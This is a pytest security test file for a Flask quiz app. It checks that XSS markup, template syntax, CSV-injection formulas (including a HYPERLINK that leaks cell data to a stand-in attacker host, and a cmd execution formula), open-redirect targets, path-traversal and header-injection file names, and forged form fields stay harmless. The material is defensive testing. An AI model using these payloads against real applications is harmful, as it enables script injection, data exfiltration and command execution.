"""Break it on purpose (issue 7): hostile text, forged forms, foreign redirects, borrowed tokens.

After OWASP ASVS (access control, input handling, session management, error handling) and what
went wrong in comparable self-hosted Flask apps: XSS through team names, answer keys leaked before
a question was answered, accounts found by name, fields a form never offered.
"""

import csv
import io
import json
import re
import secrets
import unicodedata
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import PurePosixPath, PureWindowsPath
from urllib.parse import quote, unquote, urlencode, urljoin, urlsplit

import factories
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app import create_app
from app.auth import create_instructor, find_instructor, safe_next
from app.authoring import drafts
from app.bank import BankError, load_bank
from app.config import PROJECT_ROOT
from app.extensions import db
from app.models import (
    Accommodation,
    Answer,
    Assignment,
    Attempt,
    Class,
    Instructor,
    Publication,
    QuizRecord,
    RosterStudent,
    now,
)
from app.names import tidy, tidy_name
from app.question_types import right_choice
from app.roster import add_students, read_text
from app.served import current_bank
from app.teach.exceptions import Said, save_exception
from app.text import phrase, plain

from helpers import (
    POSTGRES_URL,
    SLUG,
    Student,
    csrf_token,
    form_token,
    login,
    make_app,
    shown,
    signed_import,
    stored_rows,
    text,
)

pytestmark = pytest.mark.any_database

# --- Payload corpora ------------------------------------------------------------------------

MARKUP = [
    '<script>alert("xss")</script>',
    '"><script>alert(1)</script>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><script href="data:,alert(1)"/></svg>',
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    '<a href="javascript:alert(1)">Next question</a>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><button>Log in',
    "<style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}",
    "{{ config.SECRET_KEY }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\u202e<b>evil</b>",
]
"""Markup, attribute breakers, script URLs and template syntax: each must show as plain text."""

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A2,"Grades")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
]
"""Cells a spreadsheet would run (OWASP CSV injection); forms can deliver all of these."""

BANK_ONLY_FORMULAS = ["\t=1+1", "\r=1+1"]
"""Formulas led by a tab or return: the forms trim those away, but questions.json keeps them."""

HOSTILE = MARKUP + FORMULAS
"""What a student or instructor can type into a name; every one fits a student's 80 characters."""

BANK_TEXTS = HOSTILE + BANK_ONLY_FORMULAS
"""What questions.json can hold: one hostile question per text."""
NUMBERS = range(1, len(BANK_TEXTS) + 1)
"""The hostile quiz's question numbers."""

HOSTILE_URLS = [
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/?q=<svg/onload=alert(1)>",
]
"""Reference addresses the schema accepts (https, no spaces) that still try to break out of href."""

BAD_REFERENCE_URLS = [
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "//evil.example/notes",
    "https:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "ftp://example.org/notes",
    "file:///etc/passwd",
    " https://example.org",
    "https://example.org/ onmouseover=alert(1)",
    "https://example.org/\njavascript:alert(1)",
    "https://",
]
"""Reference addresses questions.json must refuse (tests/test_bank.py has http: and javascript:)."""

FILE_NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "..\\x",
    "C:\\Windows\\System32\\drivers",
    "\\\\server\\share\\grades",
    "~/.ssh/authorized_keys",
    "\r\nSet-Cookie: session=stolen",
    "\r\nX-Injected: yes",
    '"; filename="evil.exe',
    "gradebook\u202efdp.exe",
    "\u202egpj.exe",
    "\u200b\u200e.hidden",
    "\ufeffBOM",
    "line\u2028separator\u2029",
    "é.bashrc",
    ".bashrc",
    "...",
    " . - ",
    "%2e%2e%2fetc%2fpasswd",
    "\x1b[31mred\x7f\x85",
    "CON",
    "名前/../クラス",
    "x" * 100,
    "é" * 100,
    "😀" * 100,
]
"""Class names that try to steer a download: folders, header breaks, bidi tricks, hidden files."""

NEXT_TARGETS = [
    "https:evil.example",
    "https:/evil.example",
    "HTTPS://evil.example",
    "//evil.example/%2F..",
    "/\\/evil.example",
    "\\/evil.example",
    "/%5Cevil.example",
    "/%2F/evil.example",
    "/%09/evil.example",
    "\t//evil.example",
    "\n//evil.example",
    "\r\n//evil.example",
    " //evil.example",
    "/\n/evil.example",
    "/\r/evil.example",
    "/\x0b/evil.example",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example@localhost/teach",
    "//localhost@evil.example",
    "/.//evil.example",
    "\uff0f\uff0fevil.example",
    "%5C%5Cevil.example",
    "%0D%0ALocation: https://evil.example",
    "/teach%0D%0ALocation:%20https://evil.example",
]
"""`next` forms tests/test_access.py does not try: scheme tricks, whitespace, escapes, userinfo."""

MASS_FIELDS = {
    "correct": "true",
    "is_correct": "1",
    "score": "8",
    "points": "8",
    "answered": "8",
    "is_admin": "1",
    "student_name": "Mallory",
    "student_key": "mallory",
    "browser": "mallorys-browser",
    "token": "mallorys-token",
    "session_token": "mallorys-session",
    "password_hash": "pbkdf2:sha256:1$x$y",
    "is_open": "0",
    "join_code": "AAAAAA",
    "id": "999",
    "quiz_version_id": "999",
    "choice_order": "{}",
}
"""Fields no form offers, named after the columns they would like to set."""

# Every payload must survive the forms unchanged (tidy folds spaces, 80 max); a student's name
# only loses its invisible characters (the direction override), as STUDENT_NAMES has it.
assert all(tidy(p) == p and len(p) <= 80 for p in HOSTILE)
STUDENT_NAMES = [tidy_name(p) for p in HOSTILE]
SECRET = "test secret"  # helpers.make_app's SECRET_KEY: no page may ever print it
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
KEPT_ID = re.compile(r'="\d+"')
PASSWORD = "correct horse"

# --- Reading pages and exports as a browser and a spreadsheet would ----------------------------

APP_TAGS = frozenset({
    "html", "head", "meta", "title", "link", "body", "a", "header", "nav", "form", "input",
    "button", "main", "p", "h1", "h2", "h3", "footer", "section", "div", "span", "strong", "ul",
    "li", "label", "fieldset", "legend", "progress", "dl", "dt", "dd", "svg", "desc", "rect",
    "text", "g", "path", "table", "caption", "tr", "th", "td", "thead", "tbody", "code", "select",
    "option", "ol", "time", "line", "em", "br", "pre",
})  # fmt: skip
"""Every element the templates and quiz text (app/text.py) draw; anything else was injected."""
OWN_SCRIPTS = (
    ("script", [("src", "/static/local-time.js"), ("defer", None)]),
    ("script", [("src", "/static/countdown.js"), ("defer", None)]),
)
"""The scripts the pages load, from this site (the countdown on timed attempts only); any other
script was injected."""
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster"})


class LiveMarkup(HTMLParser):
    """Collects what a browser would run or obey in a page: foreign tags, handlers, script URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if (tag, attrs) in OWN_SCRIPTS:
            return
        if tag not in APP_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES and not _harmless_url(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if tag == "meta" and name == "content" and ("url" in value.lower()):
                self.problems.append(f"<meta content={value!r}>")

    handle_startendtag = handle_starttag


def _harmless_url(value: str) -> bool:
    """A link a browser follows to this site, a fragment, or an https source."""
    cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
    if cleaned.startswith(("//", "/\\")):
        return False
    return cleaned.startswith(("/", "#", "https://", "http://localhost/"))


def live_markup(page: str) -> list[str]:
    parser = LiveMarkup()
    parser.feed(page)
    parser.close()
    return parser.problems


def assert_inert(tally, response, where, expect=(), hostile=HOSTILE):
    """The page runs nothing injected, shows each expected payload escaped and none of them raw."""
    assert response.status_code < 500, f"{where}: {response.status_code}"
    page = response.get_data(as_text=True)
    assert live_markup(page) == [], f"{where}: live markup"
    for payload in hostile:
        # Only text with markup characters can appear raw; a lone "&lt;" is text either way.
        if set(payload) & set("<>\"'"):
            assert payload not in page, f"{where}: {payload!r} appears unescaped"
    for payload in expect:
        assert shown(payload) in page, f"{where}: {payload!r} is not on the page"
    assert SECRET not in page, f"{where}: the secret key is on the page"
    tally["attack payloads tried"] += len(hostile)


def defused(value: str) -> str:
    """A text cell as the exports must write it: formula-like text starts with an apostrophe."""
    return "'" + value if value.startswith(FORMULA_START) else value


def csv_rows(tally, response, where) -> list[list[str]]:
    """An export read as a spreadsheet reads it, after checking no cell would run as a formula."""
    assert response.status_code == 200, f"{where}: {response.status_code}"
    assert response.mimetype == "text/csv"
    # Downloaded, never shown: no browser renders the HTML payloads inside as a page.
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))
    for row in rows[1:]:
        for cell in row:
            # A number, or the gradebook's ="007" that keeps an id's zeros, runs nothing.
            safe = NUMBER.fullmatch(cell) or KEPT_ID.fullmatch(cell)
            assert not cell.startswith(FORMULA_START) or safe, (where, cell)
    tally["attack payloads tried"] += sum(len(row) for row in rows[1:])
    return rows


def column(rows, name) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


# --- Building a school to attack ---------------------------------------------------------------


def instructor(app, username, is_admin=False):
    """A logged-in instructor's browser; the account is created first."""
    with app.app_context():
        create_instructor(username, PASSWORD, is_admin=is_admin)
    client = app.test_client()
    assert login(client, username, PASSWORD).status_code == 303
    return client


def new_class(client, name):
    """Create a class through the form; returns its id and join code."""
    response = client.post("/teach", data={"csrf_token": form_token(client), "name": name})
    assert response.status_code == 303, text(response)
    class_id = int(response.location.rsplit("/", 1)[1])
    return class_id, join_code(client.application, class_id)


def join_code(app, class_id):
    with app.app_context():
        return db.session.get(Class, class_id).join_code


def hostile_bank(tmp_path):
    """questions.json with hostile text in every field a question writer fills in.

    Each question carries one payload, followed by a label saying which field it is in, so a page
    can be checked for exactly the fields it should show.
    """

    def question(n, payload):
        url = HOSTILE_URLS[n % len(HOSTILE_URLS)]
        return {
            # Ids may start with "-": the exports must defuse them as they do text.
            "id": "-1" if n == 1 else f"q{n}",
            "prompt": f"{payload} (prompt {n})",
            "choices": [
                {"id": "-right", "text": f"{payload} (right {n})", "correct": True,
                 "explanation": f"{payload} (why right {n})"},
                {"id": "wrong", "text": f"{payload} (wrong {n})", "correct": False,
                 "explanation": f"{payload} (why wrong {n})"},
            ],
            "explanation": f"{payload} (general {n})",
            "references": [{"title": f"{payload} (source {n})", "url": url}],
        }  # fmt: skip

    quizzes = [
        {
            "slug": "hostile",
            "title": '<script>alert("title")</script> " onmouseover="alert(1) {{7*7}}',
            "description": "</p><img src=x onerror=alert(1)> ' onfocus='alert(1)",
            "shuffle_choices": False,
            "questions": [question(n, payload) for n, payload in enumerate(BANK_TEXTS, 1)],
        },
        {  # a second quiz, so a join link shows the list of quizzes with the class's name
            "slug": "decoy",
            "title": "<svg onload=alert(2)>",
            "description": "{% raw %}",
            "questions": [question(1, "<b>decoy</b>")],
        },
    ]
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps({"quizzes": quizzes}), encoding="utf-8")
    return path


class Visitor(Student):
    """A student's browser on the hostile bank, which has no Gradient Checkpointing Quiz."""

    @property
    def csrf(self):
        if self._csrf is None:
            page = self.client.get("/quizzes/hostile").get_data(as_text=True)
            self._csrf = csrf_token(page)
        return self._csrf


def hostile_app(tmp_path):
    return make_app(tmp_path, QUESTIONS_PATH=str(hostile_bank(tmp_path)))


def labelled(field, n):
    return f"{BANK_TEXTS[n - 1]} ({field} {n})"


def seen(field, n):
    """A hostile quiz text as a page shows it: read as Markdown (app/text.py), cleaned."""
    return phrase(labelled(field, n))


def said(field, n):
    """A hostile quiz text as a CSV or a flag says it: the words Markdown shows."""
    return plain(labelled(field, n))


def count(app, model):
    with app.app_context():
        return db.session.scalar(db.select(db.func.count()).select_from(model))


# --- XSS: names, class names and quiz text are text on every page -----------------------------


def test_the_inertness_check_catches_live_markup(tally):
    """The page check used below flags injected tags, handlers and script URLs, and passes ours."""
    live = [
        "<p><script>alert(1)</script></p>",
        '<p><a href="javascript:alert(1)">x</a></p>',
        '<p><a href=" java\tscript:alert(1)">x</a></p>',
        '<div class="x" onmouseover="alert(1)">x</div>',
        "<svg onload=alert(1)>",
        '<form action="//evil.example"></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    ]
    for bad in live:
        assert live_markup(bad), bad
    ours = '<p><a href="/teach">x</a> <a href="https://arxiv.org/abs/1604.06174">y</a></p>'
    assert live_markup(ours) == []
    tally["attack payloads tried"] += len(live)


def test_hostile_student_names_are_inert_on_every_page(tmp_path, tally):
    """Names that are markup or template syntax show as text to classmates, instructors, admins."""
    app = hostile_app(tmp_path)
    teacher = instructor(app, "teacher")
    admin = instructor(app, "boss", is_admin=True)
    class_id, code = new_class(teacher, "Physics 101")
    passer_by = Visitor(app.test_client())
    tokens = {}
    for payload in HOSTILE:
        student = Visitor(app.test_client())
        assert student.start(name=payload, slug="hostile", class_code=code).status_code == 303
        assert student.answer(1, "wrong").status_code == 303
        tokens[payload] = student.token
        # The same name started without a class lands on the admin's "no class" page.
        assert student.start(name=payload, slug="hostile").status_code == 303
        # A name refused for another reason is drawn back into the form's value attribute.
        refused = student.start(name=payload, slug="hostile", class_code="NOPE")
        assert refused.status_code == 400
        assert_inert(tally, refused, f"start form again: {payload!r}", expect=[tidy_name(payload)])

    for payload, token in tokens.items():
        shared = passer_by.client.get(f"/attempts/{token}/results")
        assert_inert(tally, shared, f"shared results of {payload!r}", expect=[tidy_name(payload)])
        review = teacher.get(f"/teach/attempts/{token}")
        assert_inert(tally, review, f"attempt review of {payload!r}", expect=[tidy_name(payload)])
    for who, client in (("teacher", teacher), ("admin", admin)):
        for count_ in ("first", "all"):
            page = client.get(f"/teach/classes/{class_id}?quiz=hostile&count={count_}")
            assert_inert(tally, page, f"class page ({who}, {count_})", expect=STUDENT_NAMES)
    page = admin.get("/teach/no-class?quiz=hostile")
    assert_inert(tally, page, "attempts without a class", expect=STUDENT_NAMES)


def test_hostile_class_names_are_inert_on_every_page(tmp_path, tally):
    """Class names (the "team names" of other apps) show as text wherever a class is named."""
    app = hostile_app(tmp_path)
    teacher = instructor(app, "teacher")
    admin = instructor(app, "boss", is_admin=True)
    classes = {payload: new_class(teacher, payload) for payload in HOSTILE}
    for who, client in (("teacher", teacher), ("admin", admin)):
        assert_inert(tally, client.get("/teach"), f"dashboard ({who})", expect=HOSTILE)

    for payload, (class_id, code) in classes.items():
        student = Visitor(app.test_client())
        joined = student.client.get(f"/join/{code}")  # two quizzes: the list, naming the class
        assert_inert(tally, joined, f"join link of {payload!r}", expect=[payload])
        start = student.client.get(f"/quizzes/hostile?code={code}")
        assert_inert(tally, start, f"start page joining {payload!r}", expect=[payload])
        assert student.start(name="Ada", slug="hostile", class_code=code).status_code == 303
        assert student.answer(1, "-right").status_code == 303
        for url in (f"/teach/classes/{class_id}?quiz=hostile", f"/teach/classes/{class_id}/join"):
            assert_inert(tally, teacher.get(url), f"{url} of {payload!r}", expect=[payload])
        review = teacher.get(f"/teach/attempts/{student.token}")
        assert_inert(tally, review, f"review in {payload!r}", expect=[payload])

        close = f"/teach/classes/{class_id}/close"
        assert teacher.post(close, data={"csrf_token": form_token(teacher)}).status_code == 303
        closed = student.client.get(f"/quizzes/hostile?code={code}")
        assert_inert(tally, closed, f"closed notice of {payload!r}", expect=[payload])
        refused = student.start(name="Bob", slug="hostile", class_code=code)
        assert refused.status_code == 400
        assert_inert(tally, refused, f"closed-class error of {payload!r}", expect=[payload])
        results = student.client.get(student.results_url)
        assert_inert(tally, results, f"own results in closed {payload!r}", expect=[payload])


@pytest.fixture
def hostile_school(tmp_path):
    """An app serving the hostile bank, with a teacher's class and an admin."""
    app = hostile_app(tmp_path)
    teacher = instructor(app, "teacher")
    admin = instructor(app, "boss", is_admin=True)
    class_id, code = new_class(teacher, "Physics 101")
    return app, teacher, admin, class_id, code


def test_hostile_quiz_text_is_inert_on_every_page(hostile_school, tally):
    """Titles, prompts, choices, explanations and sources from questions.json are shown as text."""
    app, teacher, admin, class_id, code = hostile_school
    with app.app_context():
        hostile, decoy = current_bank().quizzes.values()

    student = Visitor(app.test_client())
    for url, expect in (
        ("/", [hostile.title, hostile.description, decoy.title]),
        ("/quizzes/hostile", [hostile.title, hostile.description]),
        ("/quizzes/decoy", [decoy.title, decoy.description]),
        (f"/join/{code}", [hostile.title, decoy.title]),
    ):
        assert_inert(tally, student.client.get(url), url, expect=expect)
    assert student.start(name="Ada", slug="hostile", class_code=code).status_code == 303
    loose = Visitor(app.test_client())
    assert loose.start(name="Grace", slug="hostile").status_code == 303
    for n in NUMBERS:
        asked = student.client.get(student.question_url(n))
        choices = [seen("prompt", n), seen("right", n), seen("wrong", n)]
        assert_inert(tally, asked, f"question {n}", expect=choices)
        if n % 2:  # every other question, to stay under 60 answers a minute per browser
            again = student.post(student.question_url(n))  # no choice: the form comes back
            assert again.status_code == 400
            assert_inert(tally, again, f"question {n} asked again", expect=choices)
        # Wrong every time, so the class page warns "Most students chose" the wrong text.
        assert student.answer(n, "wrong").status_code == 303
        assert loose.answer(n, "-right").status_code == 303
        feedback = student.client.get(student.question_url(n))
        explained = [seen(f, n) for f in ("why right", "why wrong", "general")]
        explained.append(labelled("source", n))  # a source's title is plain text
        assert_inert(tally, feedback, f"feedback {n}", expect=explained + [HOSTILE_URLS[n % 3]])

    everything = [seen(f, n) for n in NUMBERS for f in ("prompt", "wrong")]
    pages = {
        "own results": student.client.get(student.results_url),
        "shared results": Visitor(app.test_client()).client.get(student.results_url),
        "class page": teacher.get(f"/teach/classes/{class_id}?quiz=hostile"),
        "attempt review": teacher.get(f"/teach/attempts/{student.token}"),
        "no-class page": admin.get("/teach/no-class?quiz=hostile"),
        "no-class review": admin.get(f"/teach/attempts/{loose.token}"),
        "decoy class page": teacher.get(f"/teach/classes/{class_id}?quiz=decoy"),
    }
    # A class page counts the choices in words (the question type's tally).
    counted = [x for n in NUMBERS for x in (seen("prompt", n), said("wrong", n))]
    for where, page in pages.items():
        expect = counted if "class page" in where else everything
        assert_inert(tally, page, where, expect=[] if "decoy" in where else expect)
    flags = re.findall(r'<p class="flag">⚑ (.*?)</p>', pages["class page"].get_data(as_text=True))
    assert f"Most students chose “{shown(said('wrong', 3))}”" in flags


def test_hostile_quiz_text_is_defused_in_every_export(hostile_school, tally):
    """Prompts, choice texts and ids from questions.json reach the CSVs exactly, defused."""
    app, teacher, admin, class_id, code = hostile_school
    for class_code, client, base in (
        (code, teacher, f"/teach/classes/{class_id}"),
        ("", admin, "/teach/no-class"),
    ):
        student = Visitor(app.test_client())
        assert student.start(name="Ada", slug="hostile", class_code=class_code).status_code == 303
        for n in NUMBERS:
            assert student.answer(n, "wrong" if n % 2 else "-right").status_code == 303

        responses = csv_rows(tally, client.get(f"{base}/responses.csv?quiz=hostile"), base)
        prompts = [defused(said("prompt", n)) for n in NUMBERS]
        assert column(responses, "question_text") == prompts
        assert column(responses, "choice_text") == [
            defused(said("wrong" if n % 2 else "right", n)) for n in NUMBERS
        ]
        assert column(responses, "question")[:2] == ["'-1", "q2"]
        assert column(responses, "choice")[:2] == ["wrong", "'-right"]

        items = csv_rows(tally, client.get(f"{base}/items.csv?quiz=hostile"), base)
        assert column(items, "question_text") == prompts
        rights = [defused(said("right", n)) for n in NUMBERS]
        assert column(items, "right_choice") == column(items, "choice_1") == rights
        discrimination = column(items, "discrimination")
        assert all(value == "" or NUMBER.fullmatch(value) for value in discrimination)


def test_hostile_names_are_exported_exactly_and_defused(tmp_path, tally):
    """Every export of a class, and of attempts without one, writes names back exactly, defused."""
    app = make_app(tmp_path)
    teacher = instructor(app, "teacher")
    admin = instructor(app, "boss", is_admin=True)
    class_ids = []
    for payload in HOSTILE:
        class_id, code = new_class(teacher, payload)  # the class is named by the payload too
        class_ids.append(class_id)
        for class_code in (code, ""):
            student = Student(app.test_client())
            assert student.start(name=payload, class_code=class_code).status_code == 303
            assert student.answer(1, "recompute").status_code == 303

    for payload, class_id in zip(HOSTILE, class_ids, strict=True):
        base = f"/teach/classes/{class_id}"
        gradebook = csv_rows(tally, teacher.get(f"{base}/gradebook.csv"), base)
        assert column(gradebook, "student") == [defused(tidy_name(payload))]
        responses = csv_rows(tally, teacher.get(f"{base}/responses.csv"), base)
        assert column(responses, "student") == [defused(tidy_name(payload))]
        assert column(responses, "class") == [defused(payload)]
        csv_rows(tally, teacher.get(f"{base}/items.csv"), base)

    gradebook = csv_rows(tally, admin.get("/teach/no-class/gradebook.csv"), "no class")
    assert sorted(column(gradebook, "student")) == sorted(defused(p) for p in STUDENT_NAMES)
    responses = csv_rows(tally, admin.get("/teach/no-class/responses.csv"), "no class")
    assert sorted(column(responses, "student")) == sorted(defused(p) for p in STUDENT_NAMES)
    assert set(column(responses, "class")) == {"No class"}


def test_reflected_input_is_escaped(tmp_path, tally):
    """What a visitor types comes back in forms and messages as text: codes, usernames, names."""
    app = make_app(tmp_path)
    teacher = instructor(app, "teacher")
    for n, payload in enumerate(HOSTILE):
        visitor = Student(app.test_client())
        # Each visitor from its own address: unknown class codes are limited per address.
        visitor.client.environ_base["REMOTE_ADDR"] = f"203.0.113.{n}"
        page = visitor.client.get(f"/quizzes/{SLUG}?" + urlencode({"code": payload}))
        assert_inert(tally, page, f"code in the address: {payload!r}", expect=[payload])
        refused = visitor.start(name="Ada", class_code=payload)
        assert refused.status_code == 400
        assert_inert(tally, refused, f"unknown class code {payload!r}", expect=[payload])
        # Each guess from its own address: failed logins are limited per address.
        # (RATELIMIT_ENABLED=False would do, but it sticks to the shared limiter for later apps.)
        guesser = app.test_client()
        guesser.environ_base["REMOTE_ADDR"] = f"198.51.100.{n}"
        failed = login(guesser, payload, "wrong password")
        assert failed.status_code == 400
        assert_inert(tally, failed, f"username {payload!r}", expect=[payload])
        too_long = payload + " " + "x" * 100
        refused = teacher.post("/teach", data={"csrf_token": form_token(teacher), "name": too_long})
        assert refused.status_code == 400
        assert_inert(tally, refused, f"class name {payload!r}", expect=[too_long])
        for url in (f"/join/{quote(payload, safe='')}", f"/quizzes/{quote(payload, safe='')}"):
            missing = visitor.client.get(url)
            assert missing.status_code == 404
            assert_inert(tally, missing, url)
    assert count(app, Attempt) == count(app, Class) == 0


def test_template_syntax_is_never_evaluated(tmp_path, tally):
    """A name like {{7*7}} is shown as typed, not as 49, and never reaches the app's settings."""
    app = make_app(tmp_path)
    teacher = instructor(app, "teacher")
    probes = ["{{7*191}}", "{{ config }}", "{% if 1 %}evaluated{% endif %}", "{{ self.__init__ }}"]
    class_id, code = new_class(teacher, probes[0])
    for probe in probes:
        student = Student(app.test_client())
        assert student.start(name=probe, class_code=code).status_code == 303
        assert student.answer(1, "recompute").status_code == 303
    # The QR code's drawing is numbers: look at the words only.
    page = re.sub(r"<svg.*?</svg>", "", text(teacher.get(f"/teach/classes/{class_id}")))
    assert "1337" not in page and ">evaluated<" not in page and "SQLALCHEMY" not in page
    assert all(shown(probe) in page for probe in probes)
    tally["attack payloads tried"] += len(probes)


# --- Question banks: only https sources -------------------------------------------------------


@pytest.mark.parametrize("url", BAD_REFERENCE_URLS)
def test_bank_refuses_non_https_sources_with_their_place(tmp_path, tally, url):
    """A source address that is not https:// is refused, naming the quiz, question and field."""
    data = json.loads((PROJECT_ROOT / "questions.json").read_text(encoding="utf-8"))
    data["quizzes"][0]["questions"][2]["references"][0]["url"] = url
    path = tmp_path / "questions.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(BankError) as refused:
        load_bank(path)
    question = data["quizzes"][0]["questions"][2]["id"]
    assert refused.value.errors == [
        f'{path}: quiz "{SLUG}", question "{question}", field "references[0].url": '
        "must be an https:// address"
    ]
    tally["attack payloads tried"] += 1


# --- CSV file names -------------------------------------------------------------------------


INVISIBLE = ("Cc", "Cf", "Zl", "Zp")
"""Control, format (bidi overrides, zero-width) and line-separator characters."""


def download_names(disposition: str) -> tuple[str, str]:
    """The ASCII and UTF-8 file names of a Content-Disposition, after checking its shape."""
    assert all(" " <= char <= "~" for char in disposition), repr(disposition)
    shape = r'attachment; filename="([A-Za-z0-9.-]+)"; filename\*=UTF-8\'\'([A-Za-z0-9%._~-]+)'
    match = re.fullmatch(shape, disposition)
    assert match, disposition
    return match.group(1), unquote(match.group(2), errors="strict")


@pytest.mark.skipif(bool(POSTGRES_URL), reason="PostgreSQL stores no NUL; the NUL test covers it")
def test_class_named_with_nul_downloads_safely(tmp_path, tally):
    """On SQLite a NUL may already sit in an old class name: the download name drops it."""
    app = make_app(tmp_path)
    teacher = instructor(app, "teacher")
    class_id, _ = new_class(teacher, "placeholder")
    with app.app_context():
        db.session.get(Class, class_id).name = "Physics\x00.exe"
        db.session.commit()
    response = teacher.get(f"/teach/classes/{class_id}/gradebook.csv")
    response.get_data()
    ascii_name, name = download_names(response.headers["Content-Disposition"])
    assert "\x00" not in name and ascii_name.startswith("Physics-.exe-")
    tally["attack payloads tried"] += 1


def test_download_names_cannot_be_steered_by_class_names(tmp_path, tally):
    """Folders, header breaks, quotes, bidi tricks and hidden-file dots never reach a file name."""
    app = make_app(tmp_path)
    teacher = instructor(app, "teacher")
    with app.app_context():
        owner = db.session.scalars(db.select(Instructor)).one()
        # Set straight in the database: the form folds line breaks, older data may hold them.
        classes = [
            Class(name=name, join_code=f"FN{n:04d}", instructor_id=owner.id)
            for n, name in enumerate(FILE_NAMES)
        ]
        db.session.add_all(classes)
        db.session.commit()
        ids = [c.id for c in classes]
    for name, class_id in zip(FILE_NAMES, ids, strict=True):
        for kind in ("gradebook", "responses", "items"):
            response = teacher.get(f"/teach/classes/{class_id}/{kind}.csv")
            response.get_data()  # read the stream to its end, as a browser saving it would
            assert response.status_code == 200
            assert response.headers.getlist("Content-Disposition") == [
                response.headers["Content-Disposition"]
            ]
            assert "X-Injected" not in response.headers
            # The idle clock may renew the session cookie; a class name never sets one.
            assert not any("stolen" in c for c in response.headers.getlist("Set-Cookie"))
            for saved in download_names(response.headers["Content-Disposition"]):
                where = f"{name!r} -> {saved!r}"
                # The gradebook's name says which attempts it counted.
                named = "gradebook-first-attempt" if kind == "gradebook" else kind
                assert saved.endswith(f"{SLUG}-{named}.csv"), where
                assert PurePosixPath(saved).name == PureWindowsPath(saved).name == saved, where
                assert not re.search(r'[\\/:*?"<>|]', saved), where
                assert not saved.startswith((".", "-", " ")), where
                invisible = [c for c in saved if unicodedata.category(c) in INVISIBLE]
                assert invisible == [], where
            tally["attack payloads tried"] += 1
    # A name that is all punctuation still downloads under a readable name.
    dots = teacher.get(f"/teach/classes/{ids[FILE_NAMES.index('...')]}/items.csv")
    dots.get_data()
    assert download_names(dots.headers["Content-Disposition"])[1] == f"class-{SLUG}-items.csv"


# --- NUL: text no person types, which PostgreSQL cannot even compare --------------------------


@pytest.mark.postgres
def test_nul_characters_are_refused_before_the_database(tmp_path, tally):
    """A NUL in a name, code, username or token is a 4xx on both databases; nothing is stored."""
    app = make_app(tmp_path)
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a crash must show as the 500 it would be
    teacher = instructor(app, "teacher")
    class_id, code = new_class(teacher, "Physics 101")
    student = Student(app.test_client())
    assert student.start(name="Ada", class_code=code).status_code == 303
    before = (count(app, Attempt), count(app, Answer), count(app, Class))
    visitor = Student(app.test_client())
    attempts = {
        "student name": lambda: visitor.start(name="Ada\x00"),
        "class code": lambda: visitor.start(name="Ada", class_code=code[:3] + "\x00"),
        "class code in the address": lambda: visitor.client.get(f"/quizzes/{SLUG}?code=A%00B"),
        "join link": lambda: visitor.client.get("/join/AB%00CD"),
        "attempt token": lambda: visitor.client.get(f"/attempts/{student.token}%00/results"),
        "answer token": lambda: visitor.post("/attempts/x%00/questions/1", choice="recompute"),
        "choice": lambda: student.answer(1, "recompute\x00"),
        "username": lambda: login(app.test_client(), "teacher\x00", PASSWORD),
        "class name": lambda: teacher.post(
            "/teach", data={"csrf_token": form_token(teacher), "name": "Physics\x00"}
        ),
        "review token": lambda: teacher.get("/teach/attempts/x%00y"),
        "report quiz": lambda: teacher.get(f"/teach/classes/{class_id}?quiz=x%00"),
    }
    for where, attempt in attempts.items():
        response = attempt()
        assert 400 <= response.status_code < 500, (where, response.status_code)
        assert "Quizwright" in text(response), where  # the app's own error page
        tally["attack payloads tried"] += 1
    assert (count(app, Attempt), count(app, Answer), count(app, Class)) == before


# --- CSRF: every state-changing request needs this session's token ----------------------------


# Posted by a learning platform, or by a page inside its frame where our session cookie may be
# blocked: the launch's state, nonce and signature (app/lti/launch.py), or the registration link's
# one-time code, stand in for the CSRF token. Only these skip it.
LTI_PLATFORM_POSTS = ("/lti/launch", "/lti/login", "/lti/register")
# An instructor's LTI forms need a launch from a platform first: their forgery tests run against
# the test platform, in test_lti_deep_linking.py and test_lti_roster.py.
